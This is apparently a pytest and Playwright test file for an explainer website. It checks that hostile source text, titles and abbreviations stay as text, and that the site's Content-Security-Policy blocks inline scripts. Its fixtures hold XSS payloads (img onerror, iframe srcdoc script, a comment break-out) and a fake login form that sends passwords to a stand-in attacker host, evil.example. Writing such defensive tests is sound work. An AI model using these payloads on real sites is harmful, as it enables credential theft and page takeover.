"""Text from a source stays text: an explainer generated from a hostile source runs no script on any page, no
title becomes markup when a reader hovers or focuses it, and every page's Content-Security-Policy stops an inline
script that slips into a page's Markdown."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REAL, ROOT, build_site, copy_project
from explainer.structure import parse_html

pytestmark = pytest.mark.browser

HOSTILE = ROOT / "tests" / "fixtures" / "hostile.fi.txt"  # script, attribute break-outs, javascript: links,
SLUG = "vihamielinen"  # event handlers, Jinja and attr_list syntax in title, paragraphs, FAQ and credit
# Collects what the page's policy blocked, and any dialog a script opened, before the page's own scripts run.
WATCH = """
window.__blocked = [];
document.addEventListener("securitypolicyviolation", e => window.__blocked.push(e.violatedDirective));
"""


# Markup in the titles a contributor writes: an explainer's English title (explainer.yml) and an abbreviation's
# definition (Markdown). Each would load from another site, ask for a password or hide the article if a tooltip
# made it markup.
EVIL = "evil.example"
TITLE_EN = (f'Otsikko "><img src="https://{EVIL}/t.gif" onerror=alert(3)><form action="https://{EVIL}/login">'
            '<input name="password" placeholder="Salasana"></form>')
ABBREVIATION = (f'*[Kvanttiväri]: <iframe srcdoc="<script>parent.alert(4)</script>"></iframe>'
                f'<img src="https://{EVIL}/abbr.gif"><style>.md-content{{display:none!important}}</style>')


@pytest.fixture(scope="module")
def hostile(web_root, server, tmp_path_factory) -> tuple[str, Path]:
    """The site with an explainer generated from the hostile source and its translation started, built and served:
    (base URL, folder). Its English title and an abbreviation on its article carry markup too."""
    import yaml
    from explainer.preview import site_url
    from test_generator import generate

    root = tmp_path_factory.mktemp("hostile")
    project = copy_project(root / "project")
    source = root / "hostile.fi.txt"  # and a paragraph that would end an HTML comment (red-team R1)
    source.write_text(HOSTILE.read_text(encoding="utf-8").replace(
        "\n\nUKK", "\n\nLiikevaihto ---><script>alert(13)</script><br data-x= kasvoi --!><img src=x onerror=alert(14)>."
                   "\n\nUKK", 1), encoding="utf-8")
    result = generate(project, source, "--slug", SLUG)
    assert result.returncode == 0, result.stderr
    # the translation started as README says: its English pages carry every original in their placeholders
    started = subprocess.run([sys.executable, str(ROOT / "scripts" / "translate_explainer.py"), SLUG], cwd=project,
                             capture_output=True, text=True)
    assert started.returncode == 0, started.stderr
    contract = project / "docs" / SLUG / "explainer.yml"
    data = yaml.safe_load(contract.read_text(encoding="utf-8"))
    data["title"]["en"] = TITLE_EN
    contract.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with (project / "docs" / SLUG / "article.md").open("a", encoding="utf-8") as article:
        article.write(f"\n{ABBREVIATION}\n")
    url = site_url(server, "hostile")
    build_site(web_root / "hostile", url, project / "mkdocs.yml")
    return url, web_root / "hostile"


def pages_of(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*.html"))


def test_no_hostile_text_becomes_markup_on_any_page(hostile):
    _, folder = hostile
    for page in pages_of(folder):
        document = parse_html((folder / page).read_bytes())
        # JSON data blocks (JSON-LD) carry the text escaped (\u003c…), as data; a script that runs must not
        injected = document.xpath("//script[not(@type) or @type='module'][contains(., 'alert(')]"
                                  " | //img[@src='x'] | //iframe | //b[@onmouseover]"
                                  " | //@*[starts-with(name(), 'on')] | //a[starts-with(@href, 'javascript:')]")
        assert injected == [], page


def test_no_script_runs_from_a_hostile_source_on_any_page(browser, hostile):
    url, folder = hostile
    context = browser.new_context()
    context.add_init_script(WATCH)
    dialogs = []
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in pages_of(folder):
        if path == "404.html":
            continue  # served for every missing path: below
        page.goto(url + path.removesuffix("index.html"))
        page.hover("text=pigmenttejä") if SLUG in path and "faq" in path else None
        assert page.evaluate("window.__blocked") == [], path
    page.goto(url + "no/such/page/")
    assert page.evaluate("window.__blocked") == []
    page.goto(url)  # search results show the hostile text, with their highlights, as text
    page.keyboard.press("/")
    page.keyboard.type("Kvanttiväri")
    page.wait_for_selector(".md-search-result__item")
    assert page.evaluate("window.__blocked") == []
    assert page.locator(".md-search-result img, .md-search-result iframe").count() == 0
    context.close()
    assert dialogs == []


@pytest.mark.parametrize("language", REAL.languages)
def test_every_page_keeps_to_its_own_policy(page, site, language):
    """Material's scripts, the site's own, the search worker and the 404 swap all run under the policy."""
    page.add_init_script(WATCH)
    prefix = REAL.site.prefix(language)
    for name in REAL.site.pages:
        page.goto(site.url + REAL.site.page_path(name, language))
        assert page.evaluate("window.__blocked") == [], name
    page.goto(f"{site.url}{prefix}no/such/page/")
    page.keyboard.press("/")  # search, through the stemming worker
    page.keyboard.type("Meta")
    page.wait_for_selector(".md-search-result__item")
    assert page.evaluate("window.__blocked") == []


def test_hovering_or_focusing_any_title_shows_it_as_text(browser, hostile):
    """Every element with a title, on every page in both languages: hovered and focused, its tooltip is its text,
    and nothing it holds becomes markup, runs or loads from elsewhere."""
    url, folder = hostile
    context = browser.new_context()
    context.add_init_script(WATCH)
    dialogs, elsewhere = [], []
    context.on("request", lambda request: elsewhere.append(request.url) if EVIL in request.url else None)
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    hovered = 0
    for path in [path for path in pages_of(folder) if SLUG in path]:
        page.goto(url + path.removesuffix("index.html"))
        titled = page.locator("[title], [data-explainer-tooltip]")
        for index in range(titled.count()):
            host = titled.nth(index)
            if not host.is_visible():
                continue
            text = host.get_attribute("data-explainer-tooltip")
            page.mouse.move(0, 0)
            page.keyboard.press("Escape")
            host.hover(force=True, timeout=3000)  # force: one may lie under another (the search field)
            if text is not None:  # the site's tooltip, shown as the title's text when the element has focus
                host.focus()
                assert page.locator(".explainer-tooltip:not([hidden])").text_content() == text
            hovered += 1
        page.mouse.move(0, 0)
        injected = page.locator("body iframe, body form:not(.md-search__form), body img[src*='evil'], body style")
        assert injected.count() == 0, path
        assert page.locator(".md-content").first.is_visible(), path
    context.close()
    assert hovered > 0
    assert (dialogs, elsewhere) == ([], [])


def test_a_hostile_title_reaches_every_title_as_text(hostile):
    _, folder = hostile
    english = parse_html((folder / "en" / SLUG / "article" / "index.html").read_bytes())
    assert TITLE_EN in english.xpath("//a[contains(@class, 'md-logo')]/@title")
    finnish = parse_html((folder / SLUG / "article" / "index.html").read_bytes())
    assert any("<iframe srcdoc" in title for title in finnish.xpath("//abbr/@title"))


@pytest.fixture(scope="module")
def injected(web_root, server, tmp_path_factory) -> tuple[str, Path]:
    """The site with an inline script added to the Markdown of an FAQ page, as a pull request could: the strict
    build refuses it; a build that goes on anyway serves it blocked: (page URL, built page)."""
    from explainer.preview import site_url
    from mkdocs.exceptions import Abort

    project = copy_project(tmp_path_factory.mktemp("injected") / "project")
    faq = REAL.site.pages_of_kind("faq")[0]
    markdown = project / "docs" / REAL.site.markdown_name(faq, REAL.site.default_language)
    markdown.write_text(markdown.read_text(encoding="utf-8") + "\n<script>window.__injected = true</script>\n",
                        encoding="utf-8")
    url = site_url(server, "injected")
    with pytest.raises(Abort):
        build_site(web_root / "injected", url, project / "mkdocs.yml")
    build_site(web_root / "injected", url, project / "mkdocs.yml", strict=False)
    page_path = REAL.site.page_path(faq, REAL.site.default_language)
    return url + page_path, web_root / "injected" / REAL.site.built_page(faq, REAL.site.default_language)


def test_an_inline_script_from_the_markdown_is_not_in_the_policy(injected):
    _, built = injected
    html = built.read_text(encoding="utf-8")
    assert "<script>window.__injected = true</script>" in html  # the build kept it, so the policy must stop it
    document = parse_html(built.read_bytes())
    policy = document.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    import base64
    import hashlib
    digest = base64.b64encode(hashlib.sha256(b"window.__injected = true").digest()).decode()
    assert digest not in policy and "'self'" not in policy.split("script-src", 1)[1].split(";")[0]


def test_an_inline_script_from_the_markdown_does_not_run(browser, injected):
    url, _ = injected
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(url)
    assert page.evaluate("window.__injected === undefined")
    assert page.evaluate("window.__blocked") == ["script-src-elem"]
    assert page.locator(".explainer-copy-link").count() > 0  # the site's own script ran
    context.close()


def test_a_source_file_cannot_be_loaded_as_a_script(page, site):
    """script-src names the site's script folder, not 'self': a source's .txt written as JavaScript is refused."""
    source = next(iter(REAL.site.explainers)).source_path
    page.add_init_script(WATCH)
    page.goto(site.url)
    page.evaluate("""src => new Promise(done => {
        const script = document.createElement("script");
        script.src = src; script.onload = () => done("loaded"); script.onerror = () => done("refused");
        document.head.appendChild(script);
    })""", site.url + source)
    assert page.evaluate("window.__blocked") == ["script-src-elem"]
